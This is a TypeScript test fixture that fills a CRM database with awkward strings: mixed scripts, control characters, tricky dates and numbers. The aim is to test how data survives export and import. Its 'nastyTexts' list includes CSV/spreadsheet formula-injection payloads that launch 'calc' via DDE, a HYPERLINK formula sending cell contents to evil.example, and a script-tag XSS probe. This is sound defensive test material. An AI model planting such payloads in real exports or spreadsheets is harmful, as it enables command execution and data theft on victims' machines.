import { sql } from "kysely";
import type { Database, Sql } from "../../server/plumbing/database/db.ts";
import { newId } from "../../server/plumbing/ids.ts";

/** Texts that get lost, changed or carried out where somebody is careless. */
export const nastyTexts: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+49 30 1234",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tbehind a tab",
  "\rbehind a return",
  "'=1+1",
  "''=1+1",
  "'t Hooft & Söhne",
  'a "quoted", comma',
  "two\nlines",
  "two\r\nlines\r\n",
  "  blanks around  ",
  "\u00a0hard blanks\u3000",
  "\ufeffa mark in front",
  "‏مرحبا بالعالم‎",
  "שלום 👩‍👩‍👧‍👦 🇩🇪",
  "signs \u0001 \u0008 \u001f \u007f \u0085 \u2028 \ufffe",
  "0012",
  "1e5",
  "12345678901234567890",
  "TRUE",
  "2021-03-04",
  "03/04/2021",
  "<b>bold</b> &amp; <script>alert(1)</script>",
  "_x0041_ and _x000D_",
  "Grand Totals (5700 records)",
  "\\N \\ \\n",
  "null",
  "a;b|c^d~e",
  "x".repeat(30_000),
];

const day = "2024-03-31";
// Clocks in Berlin show 02:30 twice on this night; the first and the second of them.
const twice = ["2024-10-27T00:30:00.123456Z", "2024-10-27T01:30:00.5Z"];

/** A small company with every kind of record in it, and a nasty text wherever one fits. */
export async function nastyCompany(db: Database & { sql: Sql }): Promise<void> {
  const tx = db.sql;
  await tx`update workspace set time_zone = 'Europe/Berlin', country = 'DE'`;
  const team = newId();
  const user = newId();
  await tx`insert into team (team_id, name) values (${team}, 'North')`;
  await tx`
    insert into user_account (user_id, name, mail, state, role, team_id, locale, created_at)
    values (${user}, ' Anna =Berg ', 'anna@nordwind.example', 'named', 'operator', ${team}, 'de', ${twice[0]})`;
  await tx`insert into exchange_rate (currency, valid_from, rate) values ('USD', '2020-01-01', 0.00000123)`;
  await tx`
    insert into custom_field (record_kind, key, title, type, choices, place, is_required)
    values ('person', 'Colour', 'Colour, =loved', 'text', '["red; deep","blue"]', 3, true)`;
  const parties = await insertParties(tx, user);
  const [first = "", second = "", third = ""] = parties;
  const product = newId();
  await insertProducts(tx, product, first);
  await insertFacts(tx, { first, second, third, product, user });
  await tx`
    insert into crosswalk (source, kind, source_id, party_id, record_id, name_key, row_hash, fact_hash, is_repeat, custom, run_id)
    values ('old-shop', 'Clients', '=7', ${first}, ${first}, 'nord wind', md5('a')::uuid, md5('b')::uuid, true, '{"Fax":" 1 "}', ${newId()})`;
}

async function insertParties(tx: Sql, user: string): Promise<string[]> {
  const parties: string[] = [];
  for (const [at, text] of nastyTexts.entries()) {
    const id = newId();
    parties.push(id);
    const kind = ["organisation", "person", "household"][at % 3];
    await tx`
      insert into party (party_id, kind, name, legal_name, given_name, family_name, golden_id, owner_id, segment, territory,
        industry, employees_count, annual_revenue, annual_revenue_currency, website, tax_number, language, time_zone, stage,
        note, custom, created_at, updated_at)
      values (${id}, ${kind}, ${text}, ${kind === "organisation" ? text : null}, ${kind === "person" ? text : null},
        ${kind === "person" ? "Berg" : null}, ${id}, ${at % 2 ? user : null}, ${text}, 'West', 'Trade', ${kind === "household" ? null : at},
        ${kind === "household" ? null : "12345678901234.123456"}, ${kind === "household" ? null : "CHF"}, ${at % 4 ? null : "www.nordwind.example"}, ${kind === "household" ? null : `DE 00${at}`}, 'de', 'Europe/Berlin',
        'customer', ${text}, ${JSON.stringify({ Colour: text, colour: "small letter", "=key": "1" })},
        ${twice[at % 2]}, now())`;
    await tx`
      insert into contact_point (party_id, contact_point_id, kind, label, raw, normalised, state, is_preferred, line1, city, country, valid_until)
      values (${id}, ${newId()}, 'mail', 'work', ${`  ${at}@Nordwind.example; x`}, ${`${at}@nordwind.example`}, 'valid', true, null, null, null, null),
        (${id}, ${newId()}, 'address', 'main', ${text}, null, 'unverified', false, ${text}, 'Bonn', 'DE', ${day})`;
    await tx`
      insert into party_role (party_id, role, since, until)
      values (${id}, 'customer', '0001-01-01', null), (${id}, 'supplier', '2020-01-01', '2021-01-01')`;
  }
  const [organisation = "", person = ""] = parties;
  const relationship = newId();
  await tx`
    insert into relationship (party_id, relationship_id, type, direction, other_party_id, title, since)
    values (${person}, ${relationship}, 'works_for', 'from', ${organisation}, '-boss', ${day}),
      (${organisation}, ${relationship}, 'works_for', 'to', ${person}, '-boss', ${day})`;
  await tx`
    insert into prospect (party_id, prospect_id, company_name, status, source, industry, owner_id, state, arrived_at, converted_on, custom)
    values (${person}, ${newId()}, '=Firma', 'new', 'fair', 'Trade', ${user}, 'converted', ${twice[1]}, ${day}, '{"Score":"007"}')`;
  await tx`
    insert into consent (party_id, consent_id, purpose, channel, state, stated_at, source, address, ip, confirmed_at, evidence)
    values (${person}, ${newId()}, 'news', 'mail', 'withdrawn', ${twice[0]}, 'form', 'b@x.example', '10.0.0.1', ${twice[1]}, ' said so ')`;
  return parties;
}

async function insertProducts(tx: Sql, product: string, supplier: string): Promise<void> {
  const list = newId();
  await tx`
    insert into product (product_id, code, name, category, manufacturer, unit, list_price, currency, is_active, supplier_party_id, custom, created_at)
    values (${product}, '007', '=Ladder', 'Tools', 'Anna', 'pc', 0.000001, 'EUR', false, ${supplier}, '{"Weight":"1.50"}', ${twice[0]})`;
  await tx`
    insert into cost_price (product_id, valid_during, amount, currency)
    values (${product}, '[,2024-01-01)', 1.5, 'EUR'), (${product}, '[2024-01-01,)', 2, 'USD')`;
  await tx`
    insert into price_list (price_list_id, name, currency, pricing_model, is_active, custom, created_at)
    values (${list}, '@list', 'EUR', 'flat', true, '{}', ${twice[1]})`;
  await tx`
    insert into price_list_entry (price_list_id, product_id, valid_from, quantity_min, price)
    values (${list}, ${product}, '0001-01-01', 0, 99), (${list}, ${product}, ${day}, 10, 89.5)`;
}

type Who = { first: string; second: string; third: string; product: string; user: string };

async function insertFacts(tx: Sql, { first, second, third, product, user }: Who): Promise<void> {
  const [campaign, opportunity, order, invoice, caseFile, contact] = [1, 2, 3, 4, 5, 6].map(() => newId());
  const own = "00000000-0000-7000-8000-000000000001";
  await tx`
    insert into asset (party_id, asset_id, name, product_id, serial, support_plan, state, source_state, amount, currency, period, valid_from, valid_until, custom)
    values (${first}, ${newId()}, 'Crane', ${product}, '000-1', 'Plus', 'active', '=In use', 12.5, 'USD', 'month', ${day}, '2030-01-01', '{"Colour":"+red"}')`;
  await tx`
    insert into campaign (campaign_id, name, type, state, source_state, starts_on, ends_on, currency, expected_revenue, budget_amount, cost_amount, custom, created_at)
    values (${campaign}, '+spring', 'Mail', 'done', 'Over', ${day}, ${day}, 'EUR', 1, 2, 3.25, '{}', ${twice[0]})`;
  await tx`
    insert into campaign_touch (party_id, touch_id, campaign_id, status, touched_at, on_day, custom)
    values (${second}, ${newId()}, ${campaign}, 'sent', ${twice[0]}, '2024-10-26', '{}'), (${own}, ${newId()}, ${campaign}, null, ${twice[1]}, '2024-10-27', '{"Name":"Nobody"}')`;
  await tx`
    insert into opportunity (party_id, opportunity_id, name, stage, state, amount, expected_revenue, currency, probability, closes_on, type, source, campaign_id, owner_id, lost_reason, custom, opened_at)
    values (${first}, ${opportunity}, '-50 %', 'Offer', 'lost', -1.5, 0, 'USD', 12.5, ${day}, 'New', 'Fair', ${campaign}, ${user}, 'Price', '{}', ${twice[1]})`;
  await tx`
    insert into document (party_id, document_id, kind, number, title, state, source_state, issued_on, due_on, shipped_on, recognised_on, currency, list_total, discount_total, net_total, tax_total, adjustment_total, gross_total, freight_cost, person_party_id, owner_id, derived_from_id, opportunity_id, custom, created_at)
    values (${first}, ${order}, 'order', '007', '=SUM(A1)', 'delivered', 'Sent', ${day}, ${day}, ${day}, '2024-04-02', 'EUR', 100, 10, 90, 17.1, -0.05, 107.05, 4, ${second}, ${user}, null, ${opportunity}, '{"Ref":"=1"}', ${twice[0]}),
      (${first}, ${invoice}, 'invoice', null, null, 'draft', null, ${day}, null, null, null, 'USD', 0, 0, 0, 0, 0, null, null, null, null, ${order}, null, '{}', ${twice[1]}),
      (${own}, ${newId()}, 'purchase_order', 'P-1', null, 'cancelled', null, ${day}, null, null, null, 'EUR', 5, 0, 5, 0, 0, 5, null, null, null, null, null, '{}', ${twice[1]})`;
  await tx`
    insert into document_line (party_id, document_id, line_no, product_id, description, quantity, list_price, list_amount, discount_amount, discount_name, net_amount, tax_amount, cost_amount)
    values (${first}, ${order}, 1, ${product}, '=Ladder', 3, 33.333333, 100, 10, 'Spring', 90, 17.1, 50), (${first}, ${order}, 4, null, null, -1, null, 0, 0, null, 0, 0, null)`;
  const payment = newId();
  await tx`insert into payment (party_id, payment_id, received_on, amount, currency, method, reference) values (${first}, ${payment}, ${day}, 107.05, 'EUR', 'transfer', '=ref')`;
  await tx`insert into allocation (party_id, payment_id, document_id, amount) values (${first}, ${payment}, ${order}, 107.05)`;
  await tx`insert into write_off (party_id, write_off_id, document_id, written_off_on, amount, reason) values (${first}, ${newId()}, ${order}, ${day}, 1.005, '=gone')`;
  await tx`insert into rebate (party_id, rebate_id, title, granted_on, refers_from, refers_until, amount, currency) values (${first}, ${newId()}, '@year', ${day}, '2024-01-01', ${day}, 3.3333, 'EUR')`;
  await tx`insert into external_line (party_id, line_id, on_day, category, amount, currency, description, source) values (${own}, ${newId()}, ${day}, 'finance', -3.5, 'EUR', '+fees', 'books')`;
  await tx`
    insert into case_file (party_id, case_id, number, subject, kind, channel, state, source_state, priority, product_id, owner_id, opened_at, opened_on, closed_at, finding, redress_amount, custom)
    values (${first}, ${caseFile}, '0007', '=broken', 'complaint', 'letter', 'waiting', 'On hold', 'high', ${product}, ${user}, ${twice[0]}, '2024-10-27', null, 'our_fault', 12.5, '{}')`;
  await tx`
    insert into contact (party_id, contact_id, channel, kind, direction, subject, note, user_id, person_party_id, started_at, on_day, due_on, state, minutes, minutes_basis, caused_by, case_id, opportunity_id, product_id, feeling, outcome, is_billable, custom, created_at)
    values (${first}, ${contact}, 'phone', 'complaint', 'in', '@home', ${nastyTexts.join("\n")}, ${user}, ${second}, ${twice[0]}, '2024-10-27', ${day}, 'done', 12.345, 'estimated', 'us', ${caseFile}, ${opportunity}, ${product}, 'annoyed', 'ended', true, '{"Score":"=1"}', ${twice[1]}),
      (${third}, ${newId()}, 'task', 'other', null, null, null, null, null, ${twice[1]}, '2024-10-27', null, 'planned', null, 'unknown', 'unknown', null, null, null, null, null, false, '{}', ${twice[1]})`;
  await tx`update contact set own_weight = 1.25 where contact_id = ${contact}`;
  await tx`
    insert into contact_share (party_id, share_id, home_id, contact_id, weight)
    values (${third}, ${newId()}, ${first}, ${contact}, 2.5)`;
  await tx`
    insert into note (party_id, note_id, title, text, author_id, written_at, on_day, case_id, document_id, custom)
    values (${first}, ${newId()}, '=Title', ${nastyTexts.join("\r\n")}, ${user}, ${twice[0]}, '2024-10-27', ${caseFile}, ${order}, '{}')`;
  await tx`${sql`insert into suppression (address_hash, channel, address, reason, since, source)
    select keyed_hash(key, 'mail:b@x.example'), 'mail', 'b@x.example', ' asked to ', ${twice[0]}, 'form' from hash_key`}`;
}
